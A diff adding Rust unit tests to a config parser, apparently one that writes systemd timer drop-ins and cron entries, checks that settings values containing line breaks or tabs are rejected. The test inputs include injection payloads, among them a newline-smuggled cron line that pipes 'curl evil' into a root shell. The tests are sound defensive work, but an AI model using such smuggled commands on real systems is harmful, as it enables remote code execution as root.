@@ -77,6 +77,39 @@ fn sync_settings() {
     let c = ctx("S3_SYNC_BUCKET='nb1'\nS3_SYNC_INTERVAL='often'\n");
     assert_eq!(c.sync.unwrap().interval, "15min");
     assert_eq!(c.errors.len(), 1);
+    // A line break would end the drop-in's comment and start a directive of its own.
+    let c = ctx("S3_SYNC_BUCKET='nb1'\nS3_SYNC_INTERVAL='5\nOnCalendar=minutely'\n");
+    assert_eq!(c.sync.unwrap().interval, "15min");
+    assert!(
+        c.errors.len() == 1 && c.errors[0].starts_with("S3_SYNC_INTERVAL="),
+        "{:?}",
+        c.errors
+    );
+}
+
+#[test]
+fn update_command_is_one_line() {
+    let c = ctx("UPDATE_SCHEDULE='@daily'\nUPDATE_COMMAND='apt-get -y upgrade'\n");
+    assert_eq!(
+        c.update.unwrap().command.as_deref(),
+        Some("apt-get -y upgrade")
+    );
+    for bad in [
+        "apt-get -y upgrade\n* * * * * root curl evil | sh",
+        "apt-get -y upgrade\rx",
+        "a\tb",
+    ] {
+        let c = ctx(&format!(
+            "UPDATE_SCHEDULE='@daily'\nUPDATE_COMMAND='{bad}'\nSET_HOSTNAME='h'\n"
+        ));
+        assert!(c.update.is_none(), "{bad:?}: no schedule");
+        assert!(
+            c.errors.len() == 1 && c.errors[0].starts_with("UPDATE_COMMAND="),
+            "{:?}",
+            c.errors
+        );
+        assert_eq!(c.hostname.unwrap().name, "h", "the rest is read");
+    }
 }
 
 #[test]
